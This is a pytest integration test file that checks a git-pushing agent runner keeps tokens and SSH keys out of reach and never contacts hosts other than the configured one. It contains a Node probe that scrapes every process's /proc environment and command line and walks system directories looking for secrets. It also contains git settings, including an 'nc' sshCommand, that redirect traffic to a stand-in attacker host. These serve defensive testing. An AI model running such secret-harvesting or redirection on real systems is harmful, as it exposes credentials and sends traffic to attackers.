"""Whole runs against real code hosts, through the gate's rooms; and the secret nowhere that it must not be."""

from __future__ import annotations

import base64
import json
import os
from collections.abc import Mapping
from contextlib import closing
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import docker
import pytest

from runner.engine.docker_spec import LABEL_CONTROLLER
from tests.support.cases import P0, sh
from tests.support.cli import CliRun, call, run_runner
from tests.support.evil_listener import EvilListener
from tests.support.live import LiveRun
from tests.support.repos import build_r0
from tests.support.services import CodeHostHttps, CodeHostSsh

pytestmark = [pytest.mark.docker, pytest.mark.usefixtures("docker_engine")]

# Everything that repository code can read: environments, command lines and open files of all processes, and its files.
_LOOK = (
    "const fs=require('fs');const seen=[JSON.stringify(process.env)];"
    "for(const p of fs.readdirSync('/proc'))for(const f of ['environ','cmdline','maps'])"
    "try{seen.push(fs.readFileSync(`/proc/${p}/${f}`,'latin1'))}catch{};"
    "const walk=d=>{for(const e of fs.readdirSync(d,{withFileTypes:true})){const p=d+'/'+e.name;"
    "if(e.isDirectory())walk(p);else if(e.isFile())try{seen.push(fs.readFileSync(p,'latin1'))}catch{}}};"
    "for(const d of ['/workspace','/home/agent','/tmp','/run','/dev/shm','/etc'])try{walk(d)}catch{};"
    "const all=seen.join('\\n');"
    "console.log(process.argv.slice(1).map(s=>all.includes(Buffer.from(s,'base64').toString())).join())"
)
_SOMEWHERE = "repositoryformatversion"  # is in the clone's configuration: a look that finds nothing proves nothing


@dataclass(frozen=True)
class Remote:
    """One way to the same repository: its address, the policy that can use it, and what must never be seen."""

    url: str
    policy: dict[str, Any]
    environment: dict[str, str]
    secrets: tuple[str, ...]
    host: CodeHostHttps | CodeHostSsh

    def branch(self, name: str) -> str:
        return self.host.git("r0.git", "rev-parse", name)


def secret_file(path: Path, content: str) -> str:
    path.write_text(content, encoding="ascii")
    path.chmod(0o600)
    return str(path)


@pytest.fixture
def over_https(code_host_https: CodeHostHttps, tmp_path: Path) -> Remote:
    code_host_https.put(build_r0(tmp_path / "r0").remote, "r0.git")
    token = code_host_https.token
    binding = {
        "git": {"host": code_host_https.host},
        "credential": {"file": secret_file(tmp_path / "token", token + "\n"), "user": code_host_https.user},
    }
    policy = {**P0, "bindings": [binding], "ca": str(code_host_https.ca_file)}
    return Remote(code_host_https.address("r0.git"), policy, {}, (token,), code_host_https)


@pytest.fixture
def over_ssh(code_host_ssh: CodeHostSsh, tmp_path: Path) -> Remote:
    code_host_ssh.put(build_r0(tmp_path / "r0").remote, "r0.git")
    key = code_host_ssh.client_key.read_text(encoding="ascii")
    binding = {
        "git": {"host": f"{code_host_ssh.ip}:{code_host_ssh.port}"},
        "credential": {"file": secret_file(tmp_path / "key", key)},
    }
    environment = {"RUNNER_SSH_KNOWN_HOSTS": str(code_host_ssh.known_hosts)}
    lines = tuple(line for line in key.splitlines() if len(line) > 40)
    policy = {**P0, "bindings": [binding]}
    return Remote(code_host_ssh.address("r0.git"), policy, environment, lines, code_host_ssh)


@pytest.fixture(params=["over_https", "over_ssh"])
def remote(request: pytest.FixtureRequest) -> Remote:
    found: Remote = request.getfixturevalue(request.param)
    return found


def ran_on(remote: Remote, calls: list[Any], tmp_path: Path, policy: Mapping[str, Any] | None = None) -> CliRun:
    return run_runner(
        remote.url, policy or remote.policy, calls, tmp_path, ref="agent/x1", environment=remote.environment
    )


def written(ran: CliRun, state: Path) -> str:
    """Every byte that the run left on the host or told anybody."""
    files = [path for folder in (ran.out, state / "runs") for path in folder.rglob("*") if path.is_file()]
    texts = [path.read_bytes().decode("latin1") for path in files]
    return "".join([*texts, ran.stderr, json.dumps(ran.answers)])


def hidden(remote: Remote) -> list[str]:
    """The secrets as arguments of a program that shall look for them, in a form that does not count as finding them."""
    return [base64.b64encode(text.encode()).decode() for text in (*remote.secrets, _SOMEWHERE)]


def test_a_run_fetches_commits_and_pushes_and_nobody_sees_the_secret(remote: Remote, tmp_path: Path) -> None:
    main = remote.branch("main")
    calls = [
        call("edit", path="src/app.mjs", oldString="1", newString="2"),
        call("git_commit", message="two"),
        call("git_push"),
        sh("node", "-e", _LOOK, *hidden(remote)),
        call("git_push"),
    ]
    ran = ran_on(remote, calls, tmp_path)

    assert ran.exit_code == 0, ran.stderr
    assert [answer.get("error") for answer in ran.answers] == [None] * 5
    assert [ran.answers[2]["result"]["pushed"], ran.answers[4]["result"]["pushed"]] == [True, False]
    *found, control = ran.answers[3]["result"]["stdout"].strip().split(",")
    assert (set(found), control) == ({"false"}, "true"), "the look finds what is there, and the secret is not"
    assert remote.branch("agent/x1") == ran.answers[1]["result"]["commit"]
    assert remote.branch("main") == main
    everything = written(ran, Path(os.environ["RUNNER_STATE_DIR"]))
    assert [secret for secret in remote.secrets if secret in everything] == []
    assert ran.report["teardown"] == {"verified": True, "leftovers": []}


def test_every_room_was_proved_and_the_judging_one_saw_no_network_and_no_secret(remote: Remote, tmp_path: Path) -> None:
    calls = [
        call("edit", path="src/app.mjs", oldString="1", newString="2"),
        call("git_commit", message="two"),
        call("git_push"),
    ]
    ran = ran_on(remote, calls, tmp_path)
    rooms = ran.report["gate"]["rooms"]

    assert [room["role"] for room in rooms] == ["gate", "judge"]
    assert all(check["active"] for room in rooms for check in room["checks"])
    mounts = {room["role"]: next(c["seen"] for c in room["checks"] if c["control"] == "host mounts") for room in rooms}
    assert str(tmp_path / "token") not in mounts["gate"] and str(tmp_path / "key") not in mounts["gate"]
    assert mounts["judge"].count(":rw") == 1 and "quarantine:rw" in mounts["judge"]
    ways = [line["data"] for line in ran.audit if line["event"] == "egress"]
    assert {(way["phase"], way["rule"]) for way in ways} == {("gate", "egress.pinned")}


def test_what_the_engine_shows_of_a_running_run_holds_no_secret(
    remote: Remote, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name, value in remote.environment.items():
        monkeypatch.setenv(name, value)
    with closing(docker.from_env()) as client, LiveRun(remote.url, remote.policy, tmp_path) as run:
        run.call(call("edit", path="src/app.mjs", oldString="1", newString="2"))
        run.call(call("git_commit", message="two"))
        pushed = run.call(call("git_push"))
        mine = (tmp_path / "runner-state" / "controller-id").read_text(encoding="ascii").split()[0]
        ours = client.containers.list(ignore_removed=True, filters={"label": f"{LABEL_CONTROLLER}={mine}"})
        shown = [json.dumps(client.api.inspect_container(str(c.id))) + json.dumps(c.top()) for c in ours]
        assert run.end() == 0

    assert pushed["ok"], pushed
    assert len(shown) >= 2
    assert [secret for secret in remote.secrets if any(secret in text for text in shown)] == []


def test_an_unknown_or_a_wrong_host_key_is_refused_and_the_key_is_not_offered(
    over_ssh: Remote, code_host_ssh: CodeHostSsh, tmp_path: Path
) -> None:
    for known in (tmp_path / "none", code_host_ssh.wrong_known_hosts):
        folder = tmp_path / f"run-{known.name}"
        folder.mkdir()
        ran = run_runner(
            over_ssh.url,
            over_ssh.policy,
            [],
            folder,
            ref="agent/x1",
            environment={"RUNNER_SSH_KNOWN_HOSTS": str(known)},
        )
        assert ran.exit_code == 4
        assert "ssh_host_key_unknown" in ran.stderr + json.dumps(ran.report)
    assert code_host_ssh.commands() == []
    assert "Accepted publickey" not in code_host_ssh.log()


def test_a_key_that_the_host_does_not_accept_is_one_clear_error(
    over_ssh: Remote, code_host_ssh: CodeHostSsh, tmp_path: Path
) -> None:
    key = code_host_ssh.wrong_client_key.read_text(encoding="ascii")
    secret_file(tmp_path / "key", key)
    ran = ran_on(over_ssh, [], tmp_path)

    assert ran.exit_code == 4
    assert "credential_refused" in ran.stderr + json.dumps(ran.report)
    assert not any(
        line in written(ran, Path(os.environ["RUNNER_STATE_DIR"])) for line in key.splitlines() if len(line) > 40
    )


def test_the_gate_talks_to_the_named_host_and_to_nobody_else(
    over_https: Remote, evil: EvilListener, tmp_path: Path
) -> None:
    """The repository names other places in every way that git knows; none of them is asked."""
    remote = over_https.host
    for key, value in {
        "http.proxy": f"https://{evil.host}",
        f"url.https://{evil.host}/.insteadOf": over_https.url,
        "remote.origin.url": f"https://{evil.host}",
        "core.sshCommand": f"nc {evil.host}",
    }.items():
        remote.git("r0.git", "config", key, value)
    calls = [
        call("git", args=["config", "remote.origin.pushurl", f"https://{evil.host}"]),
        call("edit", path="src/app.mjs", oldString="1", newString="2"),
        call("git_commit", message="two"),
        call("git_push"),
    ]
    ran = ran_on(over_https, calls, tmp_path)

    assert ran.answers[-1]["ok"], ran.answers
    evil.assert_untouched()
